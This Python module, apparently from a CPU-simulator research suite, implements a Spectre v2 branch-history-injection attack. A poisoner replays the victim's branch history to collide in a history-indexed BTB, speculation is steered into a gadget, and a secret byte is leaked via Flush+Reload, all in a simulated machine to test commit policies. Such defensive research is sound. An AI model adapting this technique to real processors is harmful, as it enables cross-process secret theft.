"""Spectre v2 through a history-indexed BTB (the BHB variant).

With ``btb.history_bits > 0`` the BTB index folds in a branch-history
register (the BHB), as in real front ends — the defense-by-obscurity
claim being that an attacker cannot poison an entry without also
reproducing the victim's branch history.  This attack shows the sharing
survives: the attacker *replays the victim's history* before its own
aliased indirect branch, steering the poisoned entry to the exact
history-dependent index the victim's jump will consult.

a) the victim executes eight always-taken branches before its indirect
   jump, so its fetch-time BHB is a deterministic all-ones pattern;
b) the attacker's poisoner replays eight always-taken branches of its
   own (trained over a few runs until they predict taken) and then
   executes an indirect jump at a BTB-index-aliased PC with the gadget
   as target — installing the gadget under the victim's history;
c) function pointer flushed, victim triggered: the history-indexed BTB
   lookup hits the poisoned entry and speculation dives into the gadget.
"""

from __future__ import annotations


from repro.attacks.channels import FlushReloadChannel
from repro.attacks.gadgets import AttackLayout, warm_lines
from repro.api.registry import register_attack
from repro.attacks.runner import AttackResult
from repro.core.policy import CommitPolicy
from repro.errors import SimulationError
from repro.isa.assembler import ProgramBuilder
from repro.isa.instructions import INSTRUCTION_BYTES
from repro.isa.program import Program
from repro.machine import Machine
from repro.spec import MachineSpec

_FNPTR_PTR_OFFSET = 0x810   # cell A: address of cell B (distinct line)
_FNPTR_ADDR_OFFSET = 0x880  # cell B: the function pointer itself
_HISTORY_BITS = 8
_POISON_RUNS = 4            # trains the poisoner's priming branches
_WARM_RUNS = 3              # trains the victim's priming branches


def _prime_history(b: ProgramBuilder, prefix: str) -> None:
    """Eight always-taken branches: a deterministic all-ones BHB."""
    for k in range(_HISTORY_BITS):
        b.branch("eq", "r0", "r0", f"{prefix}{k}")
        b.label(f"{prefix}{k}")


def build_victim(layout: AttackLayout) -> Program:
    """Victim: primes its history, then jumps through a function pointer."""
    b = ProgramBuilder(code_base=layout.victim_code)
    # Pointer chase through two flushed cells: the jmpi target resolves
    # only after two serialized DRAM round trips, so the speculation
    # window covers the gadget's own cold instruction fetch (its tail
    # line is never architecturally executed, hence never warm).
    b.li("r2", layout.size_addr + _FNPTR_PTR_OFFSET)
    b.load("r3", "r2", 0)              # cell A -> address of cell B
    b.load("r1", "r3", 0)              # cell B -> function pointer
    b.li("r9", layout.probe)
    b.li("r10", layout.secret_addr)
    _prime_history(b, "p")
    b.jmpi("r1")                       # history-indexed BTB lookup
    b.label("benign")
    b.halt()
    b.label("gadget")
    b.load("r4", "r10", 0)             # secret
    b.alu("shl", "r5", "r4", imm=6)
    b.add("r11", "r9", "r5")
    b.load("r6", "r11", 0)             # transmit
    b.halt()
    return b.build()


def _victim_jmpi_pc(victim: Program) -> int:
    for index, inst in enumerate(victim.instructions):
        if inst.is_indirect:
            return victim.pc_of(index)
    raise SimulationError("victim has no indirect jump")


def build_poisoner(layout: AttackLayout, victim: Program,
                   btb_entries: int, btb_shift: int) -> Program:
    """Attacker: replays the victim's history, then poisons the alias.

    As in plain v2 the poisoner's ``jmpi`` lands at the victim's
    offset-within-period so the base indices collide; the eight priming
    branches directly before it reproduce the victim's all-ones BHB so
    the *folded* indices collide too.
    """
    victim_pc = _victim_jmpi_pc(victim)
    period = btb_entries << btb_shift
    base = layout.attacker_code - (layout.attacker_code % period)
    base += victim_pc - (victim_pc % period)
    while base <= layout.victim_code + victim.code_bytes:
        base += period
    jmpi_pc = base + (victim_pc % period)
    b = ProgramBuilder(code_base=base)
    pad_instructions = ((jmpi_pc - base) // INSTRUCTION_BYTES
                        - 1 - _HISTORY_BITS)
    if pad_instructions < 0:
        raise SimulationError("poisoner priming sequence does not fit")
    b.li("r1", victim.label_pc("gadget"))  # poisoned target
    b.nop(pad_instructions)
    _prime_history(b, "q")
    b.jmpi("r1")
    b.halt()
    program = b.build()
    if program.pc_of(pad_instructions + 1 + _HISTORY_BITS) != jmpi_pc:
        raise SimulationError("poisoner jmpi misaligned")
    return program


@register_attack("spectre_v2_bhb")
def run_spectre_v2_bhb(policy: CommitPolicy, secret: int = 42,
                       spec: MachineSpec = MachineSpec(),
                       backend: str = "cycle") -> AttackResult:
    """Run the BHB-steered Spectre v2 attack under the given policy."""
    if not 0 <= secret <= 255:
        raise ValueError(f"secret must be a byte, got {secret}")
    spec = spec.derive(**{"btb.history_bits": _HISTORY_BITS})
    layout = AttackLayout()
    machine = Machine.from_spec(spec, policy=policy, backend=backend)
    layout.map_user_memory(machine)
    machine.write_word(layout.secret_addr, secret)

    victim = build_victim(layout)
    fnptr_ptr = layout.size_addr + _FNPTR_PTR_OFFSET
    fnptr_addr = layout.size_addr + _FNPTR_ADDR_OFFSET
    machine.write_word(fnptr_ptr, fnptr_addr)
    machine.write_word(fnptr_addr, victim.label_pc("benign"))
    channel = FlushReloadChannel(machine, layout.probe)

    warm_lines(machine, [layout.secret_addr, fnptr_ptr, fnptr_addr],
               code_base=layout.helper_code)

    # Warm the victim until its priming branches predict taken (the
    # attack run then fetches the jmpi under the all-ones history).
    for _ in range(_WARM_RUNS):
        machine.run(victim)

    # b) poison under the replayed history.  Early runs train the
    # poisoner's own priming branches; the last installs the gadget at
    # the history-folded aliased index.
    poisoner = build_poisoner(layout, victim,
                              machine.btb.config.entries,
                              machine.btb.config.shift)
    for _ in range(_POISON_RUNS):
        machine.run(poisoner)

    # c) flush both chain cells and the probe array.
    machine.flush_address(fnptr_ptr)
    machine.flush_address(fnptr_addr)
    channel.flush()

    # d) trigger the victim.
    run = machine.run(victim)

    outcome = channel.reload()
    return AttackResult(
        attack="spectre_v2_bhb",
        policy=policy,
        secret=secret,
        leaked=outcome.value,
        details={
            "hot_slots": outcome.hot_slots,
            "history_bits": _HISTORY_BITS,
            "gadget_pc": victim.label_pc("gadget"),
            "victim_cycles": run.cycles,
        },
    )
